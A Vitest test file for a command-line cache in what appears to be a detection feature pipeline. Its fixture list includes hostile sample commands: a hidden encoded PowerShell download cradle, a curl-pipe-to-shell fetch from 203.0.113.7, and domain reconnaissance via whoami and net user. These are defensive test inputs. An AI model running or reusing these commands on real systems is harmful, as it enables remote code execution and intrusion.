import { describe, expect, it } from 'vitest';
import { CommandLineCache, tokenHash, type ScannedLine } from '../../../models/features/command-line-cache.js';
import { CommandLineShape, ShapeMeasures } from '../../../models/features/command-line-scan.js';
import { tokenBounds } from '../../../models/features/command-line.js';
import { FNV_OFFSET, Fold, fnvAdd } from '../../../models/features/hash.js';

const LINES = [
  'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\anna\\Downloads\\facture 2024.docm"',
  'curl -fsSL http://203.0.113.7:8080/x.sh | sh',
  'cmd.exe /c "whoami /all && net user /domain"',
  '',
  'İstanbul.exe /K', // a character only toLowerCase folds right: the scan's slow path
];

/** What a fresh scan and direct hashing give (the cache must give the same). */
function fresh(cl: string) {
  const s = new CommandLineShape(32).scan(cl);
  const starts = new Int32Array(32);
  const ends = new Int32Array(32);
  const n = tokenBounds(cl, starts, ends);
  const hashes: number[] = [];
  for (let i = 1; i < n; i++) hashes.push(fnvAdd(FNV_OFFSET, cl, starts[i], ends[i], Fold.LOWER_DIGITS));
  return { ...new ShapeMeasures().copyFrom(s), hashes };
}

const view = (e: ScannedLine) => ({ ...new ShapeMeasures().copyFrom(e), hashes: [...e.hashes] });

describe('CommandLineCache', () => {
  it('gives what a fresh scan gives: on a miss and on a hit', () => {
    const cache = new CommandLineCache(32);
    for (let round = 0; round < 3; round++) {
      for (const cl of LINES) expect(view(cache.get(cl)), `${round} ${cl}`).toEqual(fresh(cl));
    }
    expect(cache.count.lookups).toBe(3 * LINES.length);
    expect(cache.count.hits).toBe(2 * LINES.length);
  });

  it('hashes a token by its text alone, case and digits folded (the rows mix in tenant and image)', () => {
    const cache = new CommandLineCache(32);
    const a = cache.get('a.exe -Run tmp4F21.ps1').hashes;
    const b = cache.get('b.exe -run TMP9F03.ps1').hashes;
    expect(a).toEqual(b);
    expect(a).toEqual([tokenHash('x -run', 2, 6), tokenHash('tmp0f00.ps1', 0, 11)]);
    expect(cache.get('a.exe -walk').hashes).not.toEqual(cache.get('a.exe -run').hashes);
  });

  it('stays bounded: two generations, the old one dropped when the young one fills', () => {
    const cache = new CommandLineCache(32, 4);
    const lines = Array.from({ length: 9 }, (_, i) => `job.exe --run ${i}`);
    for (const cl of lines) cache.get(cl);
    // lines 0-3 were the old generation when line 4 arrived, 4-7 when line 8 did: 0-3 are gone
    cache.get(lines[7]!);
    expect(cache.count.hits).toBe(1);
    cache.get(lines[0]!);
    expect(cache.count.hits).toBe(1);
    expect(view(cache.get(lines[0]!))).toEqual(fresh(lines[0]!));
  });

  it('measures a line longer than the scan bound without keeping it', () => {
    const cache = new CommandLineCache(32);
    const long = `cmd.exe /c ${'x'.repeat(9000)}`;
    expect(view(cache.get(long))).toEqual(fresh(long));
    cache.get(long);
    expect(cache.count.hits).toBe(0);
  });
});
